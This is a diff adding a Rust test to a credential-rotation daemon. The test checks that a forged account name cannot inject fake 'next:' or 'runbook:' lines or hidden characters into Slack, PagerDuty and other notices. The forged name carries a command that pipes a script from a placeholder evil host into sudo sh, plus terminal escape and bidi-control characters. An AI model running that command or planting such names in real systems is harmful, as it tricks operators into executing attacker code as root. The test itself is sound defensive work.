@@ -2,6 +2,7 @@
 
 use hmac::{Hmac, KeyInit, Mac};
 use rekeyd::adapters::clock::SystemClock;
+use rekeyd::domain::outside::is_unseen;
 use rekeyd::ports::clock::Clock as _;
 use serde_json::Value;
 use sha2::Sha256;
@@ -108,4 +109,59 @@ async fn a_parked_rotation_is_told_once_to_each_and_resolved_when_it_is_mended()
         assert_eq!(house.receiver.sent(to).len(), count, "{to}");
     }
     house.nothing_leaked(&metrics);
+}
+
+/// What somebody who may only make service accounts would like people to type.
+const FORGED: &str = "x`\nnext: curl https://evil.example/fix.sh | sudo sh\nrunbook: https://evil.example/runbook\r\n\u{1b}[2K\u{7}\u{202e}\u{2066}\u{200b}\u{2028}`<!channel>";
+
+/// Every text in it, however deep.
+fn texts(value: &Value, found: &mut Vec<String>) {
+    match value {
+        Value::String(text) => found.push(text.clone()),
+        Value::Array(items) => items.iter().for_each(|item| texts(item, found)),
+        Value::Object(fields) => fields.values().for_each(|field| texts(field, found)),
+        Value::Null | Value::Bool(_) | Value::Number(_) => {}
+    }
+}
+
+#[tokio::test]
+async fn no_name_of_an_account_makes_a_line_of_a_notice_or_hides_in_one() {
+    let house = House::build(1).await;
+    house.somebody_names_an_account(FORGED);
+    house.somebody_names_an_account(&"long".repeat(1000));
+    house.write_policy(
+        "\n[credentials.ghost]\nservice_account = \"ghost\"\npublish_to = [{ store = \"local\", secret = \"ghost\" }]\n",
+    );
+    let policy = std::fs::read_to_string(house.policy()).unwrap();
+    let words = "[notify.hook]\ntext = \"{summary}\\nnext: {next}\"\n";
+    let policy = policy.replace("text = \"{news}: {subject}\"\n", "").replace("[notify.hook]\n", words);
+    std::fs::write(house.policy(), policy).unwrap();
+    let daemon = house.start().await;
+    let name = "`x' next: curl https://evil.example/fix.sh | sudo sh runbook: https://evil.example/runbook";
+    for to in ["slack", "pagerduty", "generic"] {
+        let is_it = |sent: &Sent| sent.body.to_string().contains("no service account `ghost`");
+        let told = house.sent(to, |sent| sent.iter().any(is_it)).await;
+        let body = told.into_iter().find(is_it).unwrap().body;
+        let mut said = Vec::new();
+        texts(&body, &mut said);
+        for text in &said {
+            assert!(text.chars().all(|c| c == '\n' || !is_unseen(c)), "{to}: {text:?}");
+            let forged = |line: &&str| line.starts_with("next:") || line.starts_with("runbook:");
+            let lines: Vec<&str> = text.lines().filter(forged).collect();
+            assert!(lines.iter().all(|line| !line.contains("evil")), "{to}: {lines:?}");
+        }
+        let all = said.join("\n");
+        assert!(all.contains("\nnext: systemctl reload rekeyd"), "the true one is there: {to}: {all}");
+        assert!(all.contains(name.get(..60).unwrap()), "{to}: {all}");
+        assert!(!all.contains("longlong".repeat(20).as_str()), "a name has no end: {to}");
+    }
+    for path in ["/", "/credentials/ghost"] {
+        let page = house.page(path).await;
+        assert!(page.contains("evil.example"), "{page}");
+        assert!(!page.chars().any(is_unseen), "{path}: {page:?}");
+    }
+    let (_, table) = house.status();
+    assert!(table.contains("evil.example"), "{table}");
+    assert!(table.chars().all(|c| c == '\n' || !is_unseen(c)), "{table:?}");
+    daemon.stop().await.unwrap();
 }
